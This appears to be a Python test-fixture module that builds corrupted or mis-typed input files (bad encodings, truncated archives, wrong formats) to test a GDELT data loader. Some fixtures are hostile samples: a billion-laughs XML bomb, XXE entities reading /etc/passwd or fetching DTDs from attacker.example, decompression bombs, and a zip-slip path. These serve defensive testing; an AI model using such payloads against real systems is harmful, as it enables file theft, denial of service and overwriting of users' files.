"""Damage of the whole file: packing, encoding, something else in its place."""

import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib

from backports import zstd

from tests.damage.base import gdelt2_events, json_lines, plover, table

SOUND = table("gdelt2-events").encode()
MANY = table("gdelt2-events", 200).encode()


def zipped(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def named(name: str, text: str = "GERMANY") -> str:
    return "".join("\t".join((row | {"Actor2Name": name.format(text)}).values()) + "\n" for row in gdelt2_events())


def make_empty() -> bytes:
    """No bytes at all."""
    return b""


def make_only_spaces() -> bytes:
    """Nothing but line ends and spaces."""
    return b" \n\n  \t\n"


def make_only_nul() -> bytes:
    """A file that the system lost: nothing but NULs."""
    return b"\0" * 4096


def make_web_page() -> bytes:
    """A login page saved under the name of the data."""
    return b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Please sign in.</body></html>\n"


def make_web_page_after_blank_lines() -> bytes:
    """A page of an error that begins with blank lines and has no doctype."""
    return b"\n\n  <html>\n<body><h1>502 Bad Gateway</h1></body></html>\n"


def make_xml() -> bytes:
    """XML of a coder's input."""
    sentence = b'<Sentence id="A_1" date="20240305"><Text>They met.</Text></Sentence>'
    return b'<?xml version="1.0"?>\n<Sentences>' + sentence + b"</Sentences>\n"


def make_xml_billion_laughs() -> bytes:
    """Entities that expand to gigabytes."""
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", '<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return "\n".join([*lines, "]>", "<lolz>&lol9;</lolz>"]).encode()


def make_xml_reads_local_file() -> bytes:
    """An entity that names a file of the reader's computer (XXE)."""
    return b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>\n'


def make_xml_outside_dtd() -> bytes:
    """A document type that is to be fetched from elsewhere."""
    return b'<!DOCTYPE events SYSTEM "http://attacker.example/evil.dtd">\n<events/>\n'


def make_xml_parameter_entity_utf16() -> bytes:
    """An attack in UTF-16, which filters that look for ASCII do not see."""
    return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://attacker.example/">%a;]><r/>'.encode("utf-16")


def make_lfs_pointer() -> bytes:
    """What Git LFS leaves in place of the data."""
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"4d7a" * 16 + b"\nsize 132735\n"


def make_utf16() -> bytes:
    """UTF-16 with a mark, as a spreadsheet's "Unicode text" is."""
    return SOUND.decode().encode("utf-16")


def make_utf16_without_mark() -> bytes:
    """UTF-16, big end first, without a mark."""
    return SOUND.decode().encode("utf-16-be")


def make_utf32() -> bytes:
    """UTF-32 with a mark."""
    return SOUND.decode().encode("utf-32")


def make_utf16_cut() -> bytes:
    """UTF-16 that ends in the middle of a character."""
    return SOUND.decode().encode("utf-16")[:-1]


def make_mark() -> bytes:
    """A byte order mark at the start."""
    return b"\xef\xbb\xbf" + SOUND


def make_mark_in_the_middle() -> bytes:
    """Two files with marks, one behind the other."""
    lines = SOUND.splitlines(keepends=True)
    return lines[0] + b"\xef\xbb\xbf" + b"".join(lines[1:])


def make_latin1() -> bytes:
    """Latin-1 throughout."""
    return named("CÔTE D'IVOIRE MINISTÈRE").encode("latin-1")


def make_mixed_encodings() -> bytes:
    """UTF-8 in one row, Windows-1252 in the next."""
    first, second, third = named("CÔTE D'IVOIRE").splitlines(keepends=True)
    return first.encode() + second.encode("cp1252") + third.encode()


def make_cut_in_a_character() -> bytes:
    """A file that ends after the first byte of an é."""
    return SOUND + "\t".join(list(gdelt2_events(1)[0].values())[:6]).encode() + "\té".encode()[:-1]


def make_overlong_utf8() -> bytes:
    """A slash written in two bytes, which UTF-8 forbids."""
    return SOUND.replace(b"news.example/1", b"news.example\xc0\xaf1")


def make_nul_in_a_cell() -> bytes:
    """A NUL within a name."""
    return SOUND.replace(b"GERMANY", b"GERM\0ANY", 1)


def make_hole_of_nuls() -> bytes:
    """A block of NULs between two rows, as a crash leaves it."""
    lines = MANY.splitlines(keepends=True)
    return lines[0] + b"\0" * 512 + b"\n" + b"".join(lines[1:])


def make_long_line() -> bytes:
    """A line of 10 MB between sound ones."""
    lines = SOUND.splitlines(keepends=True)
    return lines[0] + lines[1] + b"A" * 10_000_000 + b"\n" + lines[2]


def make_long_line_alone() -> bytes:
    """10 MB without a line end."""
    return b"\t".join([b"0123456789"] * 1_000_000)


def make_long_lines_with_quotes() -> bytes:
    """ACLED with a quote that is left open before 3 MB of text."""
    text = table("acled", 6).splitlines(keepends=True)
    return "".join([*text[:3], 'FRA9999,"', "A" * 3_000_000, "\n", *text[3:]]).encode()


def make_gzip() -> bytes:
    """Sound, in gzip."""
    return gzip.compress(SOUND)


def make_gzip_of_two_parts() -> bytes:
    """Two gzip files one behind the other, as allowed."""
    half = SOUND.index(b"\n") + 1
    return gzip.compress(SOUND[:half]) + gzip.compress(SOUND[half:])


def make_gzip_cut() -> bytes:
    """The first half of a gzip file."""
    packed = gzip.compress(noisy())
    return packed[: len(packed) // 2]


def make_gzip_flipped() -> bytes:
    """A gzip file with one bit turned."""
    packed = bytearray(gzip.compress(noisy()))
    packed[len(packed) // 2] ^= 0x10
    return bytes(packed)


def make_gzip_wrong_sum() -> bytes:
    """A gzip file whose check sum does not fit."""
    return gzip.compress(SOUND)[:-8] + struct.pack("<II", zlib.crc32(SOUND) ^ 1, len(SOUND))


def make_gzip_and_rubbish() -> bytes:
    """A gzip file with something else behind it."""
    return gzip.compress(SOUND) + b"<!-- cached copy -->"


def make_gzip_bomb() -> bytes:
    """Rows and then 200 MB of zeros, in 200 KB."""
    packer = zlib.compressobj(9, wbits=31)
    start = packer.compress(MANY)
    return start + b"".join(packer.compress(bytes(1_000_000)) for _ in range(200)) + packer.flush()


def make_gzip_in_gzip() -> bytes:
    """Packed twice."""
    return gzip.compress(gzip.compress(SOUND))


def make_gzip_of_tar() -> bytes:
    """A .tar.gz."""
    return gzip.compress(make_tar())


def make_zip() -> bytes:
    """Sound, in a zip as GDELT publishes it."""
    return zipped(**{"20240305120000.export.CSV": SOUND})


def make_zip_from_a_mac() -> bytes:
    """A zip with what macOS adds."""
    return zipped(**{"a.CSV": SOUND, "__MACOSX/._a.CSV": b"\0\5\x16\7"})


def make_zip_of_two() -> bytes:
    """A zip with two files."""
    return zipped(**{"a.CSV": SOUND, "b.CSV": SOUND})


def make_zip_of_none() -> bytes:
    """A zip with nothing in it."""
    return zipped()


def make_zip_with_unsafe_name() -> bytes:
    """A zip whose member would be written elsewhere ("zip slip")."""
    return zipped(**{"../../home/user/.profile": SOUND})


def make_zip_encrypted() -> bytes:
    """A zip that says it is encrypted."""
    packed = bytearray(zipped(**{"a.CSV": SOUND}))
    packed[6] |= 1
    packed[packed.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(packed)


def make_zip_cut() -> bytes:
    """A zip without its end."""
    return make_zip()[:-60]


def make_zip_wrong_content() -> bytes:
    """A zip whose packed bytes were changed."""
    packed = bytearray(zipped(**{"a.CSV": noisy()}))
    packed[200:220] = bytes(20)
    return bytes(packed)


def make_zip_bomb() -> bytes:
    """A zip of rows and then 60 MB of line ends."""
    return zipped(**{"a.CSV": MANY + b"\n" * 60_000_000})


def make_zip_in_zip() -> bytes:
    """A zip within a zip."""
    return zipped(**{"a.zip": make_zip()})


def make_zip_unknown_method() -> bytes:
    """A zip packed in a way that nobody knows."""
    packed = bytearray(zipped(**{"a.CSV": SOUND}))
    packed[8] = 77
    packed[packed.rindex(b"PK\x01\x02") + 10] = 77
    return bytes(packed)


def make_workbook() -> bytes:
    """An Excel workbook."""
    return zipped(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


def make_old_workbook() -> bytes:
    """A workbook of the old kind (.xls)."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000)


def make_parquet() -> bytes:
    """A Parquet file."""
    return b"PAR1" + bytes(range(256)) + b"PAR1"


def make_noise() -> bytes:
    """Bytes by chance."""
    return random.Random(7).randbytes(5000)


def make_rar() -> bytes:
    """An archive of a kind that is not read."""
    return b"Rar!\x1a\x07\x01\x00" + bytes(100)


def make_seven_zip() -> bytes:
    """A 7z archive."""
    return b"7z\xbc\xaf\x27\x1c" + bytes(100)


def make_tar() -> bytes:
    """A tar archive."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        member = tarfile.TarInfo("a.CSV")
        member.size = len(SOUND)
        archive.addfile(member, io.BytesIO(SOUND))
    return stream.getvalue()


def make_bzip2() -> bytes:
    """Sound, in bzip2."""
    return bz2.compress(SOUND)


def make_xz() -> bytes:
    """Sound, in xz."""
    return lzma.compress(SOUND)


def make_xz_cut() -> bytes:
    """The first part of an xz file."""
    return lzma.compress(noisy())[:-2000]


def make_zstd() -> bytes:
    """Sound, in Zstandard."""
    return zstd.compress(SOUND)


def make_zstd_cut() -> bytes:
    """The first part of a Zstandard file."""
    return zstd.compress(noisy())[:-2000]


def make_zstd_bomb() -> bytes:
    """Rows and then 300 MB of tabs, in 30 KB."""
    packer = zstd.ZstdCompressor()
    return b"".join([packer.compress(MANY), *(packer.compress(b"\t" * 1_000_000) for _ in range(300)), packer.flush()])


def make_windows_lines() -> bytes:
    """CRLF throughout."""
    return SOUND.replace(b"\n", b"\r\n")


def make_old_mac_lines() -> bytes:
    """CR throughout."""
    return SOUND.replace(b"\n", b"\r")


def make_mixed_lines() -> bytes:
    """LF, CRLF and CR in one file."""
    lines = table("gdelt2-events", 6).splitlines()
    ends = ("\n", "\r\n", "\r")
    return "".join(line + ends[number % 3] for number, line in enumerate(lines)).encode()


def make_no_last_end() -> bytes:
    """Sound, but for the last line end."""
    return SOUND[:-1]


def make_cut_in_a_row() -> bytes:
    """A download that stopped in the middle of a row."""
    return SOUND[: len(SOUND) - 200]


def make_other_table() -> bytes:
    """A table of something else."""
    return b"date,station,temperature,rain\n" + b"2024-03-05,Paris,11.5,0\n" * 20


def make_prose() -> bytes:
    """A news story."""
    return b"The two ministers met in Paris on Tuesday, officials said.\nThey agreed to meet again.\n"


def make_source_code() -> bytes:
    """A program."""
    return b"#!/usr/bin/env python\nimport csv, sys\nfor row in csv.reader(sys.stdin):\n    print(row[0])\n"


def make_mentions_taken_for_events() -> bytes:
    """Mentions, checked as events."""
    return table("gdelt2-mentions").encode()


def make_table_taken_for_json() -> bytes:
    """A table, checked as records."""
    return SOUND


def make_json_taken_for_a_table() -> bytes:
    """Records, checked as a table."""
    return json_lines(plover()).encode()


def make_page_taken_for_events() -> bytes:
    """A web page, checked as events."""
    return make_web_page()


def make_other_table_taken_for_events() -> bytes:
    """A table of something else, checked as events."""
    return make_other_table()


def noisy() -> bytes:
    """Rows that do not pack well, so that a part of the packed file lies within them."""
    chance = random.Random(3)
    made = gdelt2_events(200)
    return "".join(
        "\t".join((row | {"SOURCEURL": f"https://news.example/{chance.getrandbits(512):x}"}).values()) + "\n"
        for row in made
    ).encode()
